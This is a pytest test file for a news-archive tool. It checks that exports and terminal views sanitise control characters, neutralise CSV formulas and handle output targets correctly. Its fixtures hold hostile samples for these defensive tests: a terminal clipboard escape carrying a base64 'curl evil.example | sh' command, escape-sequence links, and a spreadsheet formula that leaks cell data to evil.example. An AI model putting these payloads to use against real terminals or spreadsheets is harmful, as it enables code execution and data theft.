"""Exports are safe to print and to open: no raw control characters, no formulas a spreadsheet would
run, and -o writes to its target (a file, a link, a pipe, a device) rather than replacing it."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from archive.export import FORMATS, export
from archive.models import ArticleRecord, Sighting

#: What a terminal obeys: C0 controls but tab and newline, DEL, C1 controls (U+009B is an 8-bit CSI).
RAW_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC8 = "\x1b]8;;http://evil.example/\x07"
CSI8 = "\x9b2J\x9d0;title\x9c"

HOSTILE_PAGE = f"""Weekly Roundup{OSC52} Number 1

March 3rd, 2017 - by admin

Farmers Lose Wheat to Early Frost

River{OSC8} Herald{CSI8}

(March 3, 2017) — Farmers in the northern valley lost most of their wheat to an early frost that arrived without
warning, and officials said help would come from a committee that meets on Monday.

Port Approves New Container Terminal

By Ann{CSI8} Bell, River Herald

(March 3, 2017) — The port authority approved a new container terminal despite objections from fishing crews who
said the river was closed for weeks after the rain.

Fair use notice: this page holds copyrighted material{OSC52} used for research.
"""


def without_row_ends(text: str) -> str:
    """CSV ends each row with CR LF, as RFC 4180 says: that CR is the format's, not the data's."""
    return text.replace("\r\n", "\n")


def assert_no_raw_controls(out: str) -> None:
    assert not RAW_CONTROLS.search(without_row_ends(out)), repr(RAW_CONTROLS.findall(without_row_ends(out)))
    assert "\u202e" not in out


@pytest.fixture
def hostile(cli_run, archive_dir):
    page = archive_dir / "hostile.txt"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    cli_run("add", "-q", str(page))
    return cli_run


@pytest.mark.parametrize("fmt", FORMATS)
def test_exports_of_a_hostile_page_carry_no_raw_controls(hostile, fmt):
    out = hostile("export", "--format", fmt).output
    assert "Farmers" in out and "Bell" in out
    assert_no_raw_controls(out)


def plant(archive_dir, article_id: str, **fields: str) -> None:
    """Commit a version of an article whose fields hold what an older archive (or a hand) stored raw."""
    from archive.store import Store

    store = Store(archive_dir / "store")
    meta = json.loads(store.read(article_id, "meta.json"))
    meta.update(fields)
    for sighting in meta["sightings"]:
        sighting["page_title"] = fields.get("title", sighting["page_title"])
    markdown = store.read(article_id, "article.md").decode()
    with store.lock():
        store.commit(article_id, {"article.md": markdown.encode(), "meta.json": json.dumps(meta).encode()},
                     message="planted")


@pytest.fixture
def planted(cli_run, archive_dir):
    from conftest import MOSUL

    cli_run("add", "-q", str(MOSUL))
    article = json.loads(cli_run("list", "--json").output)[0]["id"]
    plant(archive_dir, article, title=f"Copy{OSC52} this{CSI8}", outlet=f"River{OSC8} Herald",
          author="Ann\x1b[2J Bell\u202e", section="News\x9b31m")
    cli_run("reindex")
    return cli_run


@pytest.mark.parametrize("fmt", FORMATS)
def test_stored_control_characters_never_reach_an_export_raw(planted, fmt):
    out = planted("export", "--format", fmt).output
    assert "Herald" in out and "Bell" in out
    assert_no_raw_controls(out)
    if fmt in ("jsonl", "csl-json"):  # JSON keeps the value, escaped
        assert "\\u009b" in out


def test_terminal_views_of_stored_control_characters(planted):
    listed = json.loads(planted("list", "--json").output)
    article = next(a["id"] for a in listed if "Copy" in a["title"])
    for args in (("show", article), ("show", article, "--json"), ("list",), ("list", "--json"),
                 ("search", "Herald"), ("search", "Herald", "--json"), ("history", article)):
        out = planted(*args).output
        assert not RAW_CONTROLS.search(out), (args, repr(RAW_CONTROLS.findall(out)))
        assert "\u202e" not in out, args


def test_every_format_cleans_what_it_is_given():
    record = ArticleRecord(
        id="articles/x/2016/10/y", version=1, title=f"T{OSC52}", body=f"B{CSI8}", outlet=f"O{OSC8}",
        author="A\x1b[31m Person", date="2016-10-20", date_text=None, subtitle=None, standfirst=None,
        section=None, review=False, review_reasons=(), fair_use_note=None,
        sightings=(Sighting("pages/2016/10/p", f"P\x9d{OSC52}", "2016-10-20", 1),))
    for fmt in FORMATS:
        out = "".join(export([record], fmt))
        assert not RAW_CONTROLS.search(without_row_ends(out)), (fmt, out)


FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&A1, "Read more")', "outlet": "@SUM(A1:A9)",
            "author": "+1 Caller", "date_text": "-2+3"}


@pytest.fixture
def formulas(cli_run, archive_dir):
    from conftest import MOSUL

    cli_run("add", "-q", str(MOSUL))
    article = json.loads(cli_run("list", "--json").output)[0]["id"]
    cli_run("edit", article, "--title", FORMULAS["title"], "--outlet", FORMULAS["outlet"],
            "--author", FORMULAS["author"], "--reason", "a page from the web said so")
    plant(archive_dir, article, date_text=FORMULAS["date_text"], section="\tTabbed", subtitle="\rReturn")
    cli_run("reindex")
    return cli_run


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(formulas):
    rows = list(csv.DictReader(io.StringIO(formulas("export", "--format", "csv").output)))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"] == "'" + FORMULAS["title"] and row["outlet"] == "'" + FORMULAS["outlet"]
    assert row["author"] == "'" + FORMULAS["author"] and row["date_text"] == "'" + FORMULAS["date_text"]
    assert row["section"] == "'\tTabbed"
    # For programs that want the values as stored:
    raw = list(csv.DictReader(io.StringIO(formulas("export", "--format", "csv", "--raw-csv").output)))
    row = next(r for r in raw if "HYPERLINK" in r["title"])
    assert (row["title"], row["outlet"], row["author"]) == (FORMULAS["title"], FORMULAS["outlet"],
                                                            FORMULAS["author"])


def test_only_csv_is_neutralised(formulas):
    out = formulas("export", "--format", "jsonl").output
    assert json.dumps(FORMULAS["title"])[1:-1] in out


@pytest.fixture
def exported(cli_run):
    from conftest import MOSUL

    cli_run("add", "-q", str(MOSUL))
    return cli_run


def test_output_through_a_symlink_keeps_the_link(exported, archive_dir):
    real = archive_dir / "real.jsonl"
    real.write_text("old\n")
    link = archive_dir / "link.jsonl"
    link.symlink_to(real)
    exported("export", "-o", str(link))
    assert link.is_symlink() and real.read_text().count('"id"') == 4
    dangling = archive_dir / "dangling.bib"
    dangling.symlink_to(archive_dir / "made-by-export.bib")
    exported("export", "--format", "bibtex", "-o", str(dangling))
    assert dangling.is_symlink() and "@article" in (archive_dir / "made-by-export.bib").read_text()


def test_output_to_a_fifo_reaches_its_reader(exported, archive_dir):
    import os
    import threading

    fifo = archive_dir / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    exported("export", "--format", "ris", "-o", str(fifo))
    reader.join(timeout=30)
    assert received and received[0].count(b"TY  - NEWS") == 4
    assert fifo.is_fifo()


def test_output_to_a_device_writes_to_it(exported):
    import os
    import pty

    master, slave = pty.openpty()
    device = os.ttyname(slave)
    try:
        exported("export", "--format", "csv", "-o", device)
        os.set_blocking(master, False)
        assert b"store_path" in os.read(master, 1 << 20)
    finally:
        os.close(master)
        os.close(slave)


def test_output_dash_is_standard_output_and_a_regular_file_is_replaced_whole(exported, archive_dir):
    import os

    assert exported("export", "-o", "-").output.count('"id"') == 4
    assert not (archive_dir / "-").exists()
    target = archive_dir / "out.jsonl"
    target.write_text("old\n")
    target.chmod(0o640)
    exported("export", "-o", str(target))
    assert target.read_text().count('"id"') == 4 and (target.stat().st_mode & 0o777) == 0o640
    assert not [p for p in os.listdir(archive_dir) if p.endswith(".partial")]
    folder = exported("export", "-o", str(archive_dir), code=2)  # click refuses a folder
    assert "Traceback" not in folder.output
